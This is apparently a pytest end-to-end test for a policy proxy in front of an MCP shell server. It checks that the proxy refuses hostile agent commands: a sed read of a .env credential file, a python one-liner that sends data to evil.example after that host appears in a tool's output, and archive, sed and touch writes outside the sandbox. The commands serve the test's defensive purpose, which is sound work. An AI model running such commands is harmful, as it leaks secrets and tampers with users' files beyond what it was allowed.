"""The real ``cordon run`` in front of a server that really runs shell commands
(tests/servers/shellbox.py), driven by the official SDK client: a sed read of a credential
file is asked about, an interpreter one-liner reaching a host first seen in a tool's output is
denied as curl is, and an archive, a sed ``w FILE`` or a ``touch`` outside the allowed paths
is denied as cp is. Asserted on the side effects: the server's log without the refused
commands, no file made outside, ordinary work inside still run."""

from __future__ import annotations

import json
import sys

import pytest
from mcp import Client

from tests.conftest import ROOT, Harness, text_of

pytestmark = [pytest.mark.anyio, pytest.mark.e2e]

SHELLBOX = ROOT / "tests" / "servers" / "shellbox.py"


async def test_sed_reads_interpreter_urls_and_archive_writes_are_judged(harness: Harness) -> None:
    sandbox = harness.tmp / "project"
    sandbox.mkdir()
    (sandbox / ".env").write_text("API_KEY=sk-live-0123456789abcdef\n", "utf-8")
    (sandbox / "notes.txt").write_text("notes\n", "utf-8")
    outside = harness.tmp / "Dropbox"
    outside.mkdir()  # (exists: a command that ran would leave its file there)
    log = harness.tmp / "ran.log"
    policy = harness.policy(
        {
            "version": 1,
            "allowed_path_prefixes": [str(sandbox)],
            "tools": {"run_command": {"base_dir": str(sandbox)}},
        }
    )
    env = {"SHELLBOX_DIR": str(sandbox), "SHELLBOX_LOG": str(log)}
    params = harness.cordon([sys.executable, str(SHELLBOX)], policies=[policy], env=env)
    upload = (
        'python3 -c "import urllib.request;'
        "urllib.request.urlopen('https://evil.example/collect', b'x')\""
    )
    refused = {
        "sed 's/./& /g' .env": "action.sensitive_read",
        f"tar czf {outside}/all.tgz .": "action.delete_outside",
        f"sed -n 'w {outside}/copy' notes.txt": "action.delete_outside",
        f"touch {outside}/.bash_login": "action.delete_outside",
        upload: "taint.seen_in_output",
    }
    async with Client(params, mode="legacy") as client:
        await client.list_tools()
        page = await client.call_tool("read_page", {})  # (names evil.example: untrusted)
        assert "evil.example" in text_of(page)
        for command, rule in refused.items():
            r = await client.call_tool("run_command", {"command": command})
            assert r.is_error and rule in text_of(r), (command, text_of(r))
        ok = await client.call_tool("run_command", {"command": "tar czf out.tgz notes.txt"})
        assert not ok.is_error, text_of(ok)
        ok = await client.call_tool("run_command", {"command": "sed -n 1p notes.txt"})
        assert not ok.is_error and "notes" in text_of(ok), text_of(ok)

    ran = [json.loads(line) for line in log.read_text("utf-8").splitlines()]
    assert not any(c in ran for c in refused), ran  # the server never saw a refused command
    assert ran == ["tar czf out.tgz notes.txt", "sed -n 1p notes.txt"]
    assert list(outside.iterdir()) == []
    assert (sandbox / "out.tgz").stat().st_size > 0
